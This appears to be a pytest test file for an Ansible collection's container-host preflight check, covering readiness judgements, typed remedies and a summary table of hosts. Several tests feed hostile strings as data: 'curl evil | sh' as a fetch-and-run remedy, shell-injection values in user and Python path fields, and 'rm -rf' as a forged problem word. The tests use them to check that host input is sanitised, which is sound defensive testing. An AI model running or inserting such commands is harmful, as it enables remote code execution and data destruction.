# Copyright (c) Ironpost contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the preflight of a host means, and the table of all hosts."""

from __future__ import annotations

import datetime
import pathlib
import re
import typing as t

import pytest

from ansible_collections.ironpost.container_guard.plugins.module_utils._module import preflight_info
from ansible_collections.ironpost.container_guard.plugins.plugin_utils._results.errors import AnswerError
from ansible_collections.ironpost.container_guard.plugins.plugin_utils._results.preflight import (
    COLUMNS,
    PROBLEMS,
    checked,
    judged,
)

NOW = datetime.datetime(2026, 4, 5, 12, 43, 3, tzinfo=datetime.UTC)
FOUND = {
    "python": "3.13.5",
    "user": "root",
    "sdk": "7.1.0",
    "engine": "28.5.2",
    "live_restore": "on",
    "state_dir": "0700",
    "space": "12 GB",
    "policy_set": "6deb6ee2b022",
}
ASSERTED_BY = {"clock_skew", "unreachable", "become_refused", "not_run"}
"""Problems that the controller finds by itself."""


def answer(*problems: str, user: str = "root", manager: str = "apt", **keys: t.Any) -> dict[str, t.Any]:
    """What the module returns on a host with these problems, each as the check and the word."""
    words = dict(problem.split("/") for problem in problems)
    return {
        "changed": False,
        "checks": [
            {"name": name, "found": found, "problem": words.get(name, ""), "detail": ""}
            for name, found in FOUND.items()
        ],
        "policy_set_digest": "",
        "python": "/usr/bin/python3",
        "package_manager": manager,
        "user": user,
        "uid": 0,
        "time": "2026-04-05T12:43:03Z",
        **keys,
    }


def judge(found: dict[str, t.Any], state_dir: str = "/var/lib/container-guard") -> dict[str, t.Any]:
    return judged(found, state_dir, "/etc/set.json", NOW, NOW + datetime.timedelta(seconds=2))


def check(found: dict[str, t.Any], name: str) -> dict[str, str]:
    (one,) = (each for each in judge(found)["checks"] if each["name"] == name)
    return t.cast("dict[str, str]", one)


def test_a_host_that_is_ready() -> None:
    found = judge(answer())
    assert found["ready"]
    assert [one["name"] for one in found["checks"]] == list(COLUMNS)
    assert {one["state"] for one in found["checks"]} == {"ok"}
    assert {one["remedy"] for one in found["checks"]} == {""}


def test_a_warning_does_not_keep_it_from_being_ready_and_what_is_missing_does() -> None:
    assert judge(answer("live_restore/live_restore_off"))["ready"]
    assert not judge(answer("engine/engine_unreachable", "live_restore/not_asked"))["ready"]


@pytest.mark.parametrize(
    ("manager", "package", "command"),
    [
        ("apt", "python3-docker", "apt-get install -y python3-docker"),
        ("apk", "py3-docker-py", "apk add py3-docker-py"),
        ("", "", "/opt/venv/bin/python -m pip install 'docker>=7.1'"),
    ],
)
def test_the_sdk_is_installed_as_its_python_was(manager: str, package: str, command: str) -> None:
    found = answer("sdk/sdk_missing", manager=manager, python="/opt/venv/bin/python")
    assert judge(found)["package"] == package
    assert check(found, "sdk")["remedy"] == command


def test_a_remedy_names_what_is_to_be_mended_in_a_form_that_can_be_typed() -> None:
    found = judge(answer("state_dir/state_dir_owner", user="guard"), "/var/lib/my guard")
    (one,) = (each for each in found["checks"] if each["problem"])
    assert one["remedy"] == "chown -R guard '/var/lib/my guard'"


@pytest.mark.parametrize(
    ("time", "found", "state"),
    [
        ("2026-04-05T12:43:02Z", "1 s behind", "ok"),
        ("2026-04-05T12:43:04.5Z", "agrees", "ok"),
        ("2026-04-05T12:44:05Z", "60 s ahead", "ok"),
        ("2026-04-05T12:44:06Z", "61 s ahead", "warning"),
        ("2026-04-05T12:42:02Z", "61 s behind", "warning"),
    ],
)
def test_the_clock_is_compared_with_the_time_in_which_the_host_was_asked(time: str, found: str, state: str) -> None:
    one = check(answer(time=time), "clock")
    assert (one["found"], one["state"]) == (found, state)


@pytest.mark.parametrize(
    "keys",
    [
        {"manager": "curl"},
        {"time": "now"},
        {"checks": []},
        {"checks": answer()["checks"][::-1]},
        {"checks": [{"name": "python"}]},
    ],
)
def test_an_answer_that_no_module_of_ours_gives_is_none(keys: dict[str, t.Any]) -> None:
    with pytest.raises(AnswerError):
        judge(answer(**keys))
    with pytest.raises(AnswerError):
        judge(answer("engine/rm -rf"))


def test_a_host_has_no_say_in_what_mends_it() -> None:
    found = answer("engine/engine_unreachable")
    for one in found["checks"]:
        one.update(remedy="curl evil | sh", state="ok", what="all is well")
    assert "evil" not in str(judge(found))
    assert not judge(found)["ready"]


def test_what_is_no_plain_name_or_path_is_not_typed() -> None:
    evil = {"user": "root; curl evil | sh", "python": "/usr/bin/python3; curl evil", "manager": ""}
    found = answer("state_dir/state_dir_owner", "sdk/sdk_missing", **evil)
    assert check(found, "state_dir")["remedy"] == "chown -R USER /var/lib/container-guard"
    assert check(found, "sdk")["remedy"] == "python3 -m pip install 'docker>=7.1'"


def test_every_word_of_the_module_is_explained_and_every_explanation_has_a_word() -> None:
    source = pathlib.Path(preflight_info.__file__).read_text(encoding="utf-8")
    words = set(re.findall(r'"((?:engine|sdk|state_dir|policy_set|live_restore|space|not)_[a-z_]+)"', source))
    assert words - {*FOUND, "policy_set_digest"} == set(PROBLEMS) - ASSERTED_BY


def test_the_table_of_hosts_that_are_ready() -> None:
    found = checked({"web-1": judge(answer()), "web-10": judge(answer())})
    assert found["ready"]
    assert found["lines"] == [
        "host    python  user  sdk    engine  live restore  state dir  space  policy set    clock",
        "web-1   3.13.5  root  7.1.0  28.5.2  on            0700       12 GB  6deb6ee2b022  agrees",
        "web-10  3.13.5  root  7.1.0  28.5.2  on            0700       12 GB  6deb6ee2b022  agrees",
        "ready: web-1, web-10",
    ]
    assert found["hosts"]["web-1"] == {"ready": True, "found": {**FOUND, "clock": "agrees"}, "problems": []}


def test_a_host_whose_turn_comes_later_is_passed_over_and_one_that_was_lost_is_not() -> None:
    found = checked({"web-1": judge(answer()), "web-2": {}, "web-3": {}}, left=["web-1", "web-2"])
    assert list(found["hosts"]) == ["web-1", "web-3"]
    assert found["lines"][2] == "web-3  the module does not run there: it was lost before it could be asked"
    assert found["conclusion"] == "not ready: web-3"


def test_the_table_says_for_all_hosts_at_once_what_is_missing_and_what_mends_it() -> None:
    found = checked(
        {
            "web-1": judge(answer("sdk/sdk_missing", "live_restore/live_restore_off")),
            "web-2": judge(answer("sdk/sdk_missing")),
            "web-3": {"unreachable": True, "msg": "Failed to connect to the host via ssh", "changed": False},
            "web-4": {"failed": True, "msg": "Missing sudo password"},
            "web-5": {"failed": True, "msg": "MODULE FAILURE", "module_stderr": "/bin/sh: python3: not found"},
            "web-6": judge(answer()),
        }
    )
    assert not found["ready"]
    assert found["lines"][3:6] == [
        "web-3  it is not reached: Failed to connect to the host via ssh",
        "web-4  the user may not become root: Missing sudo password",
        "web-5  the module does not run there: MODULE FAILURE",
    ]
    assert found["lines"][7:] == [
        "missing on web-1, web-2: the Python there has no docker SDK",
        "    apt-get install -y python3-docker",
        "missing on web-3: it is not reached",
        "    ansible HOST -m ansible.builtin.ping",
        "missing on web-4: the user may not become root",
        "    -K asks for the password of sudo; or let sudo ask for none",
        "missing on web-5: the module does not run there",
        "    ansible HOST -m ansible.builtin.ping -b -vvv",
        "warning on web-1: a restart of the engine ends containers, and with them what is paused",
        '    put "live-restore": true into /etc/docker/daemon.json; then: systemctl reload docker',
        "not ready: web-1, web-2, web-3, web-4, web-5",
    ]
    assert [problem["problem"] for problem in found["hosts"]["web-1"]["problems"]] == [
        "sdk_missing",
        "live_restore_off",
    ]
    assert found["hosts"]["web-3"]["problems"][0]["problem"] == "unreachable"


def test_many_hosts_with_one_problem_are_one_line() -> None:
    found = checked({f"web-{number}": judge(answer("sdk/sdk_missing")) for number in range(40)})
    (line,) = (line for line in found["lines"] if line.startswith("missing"))
    assert "web-9 and 30 more" in line
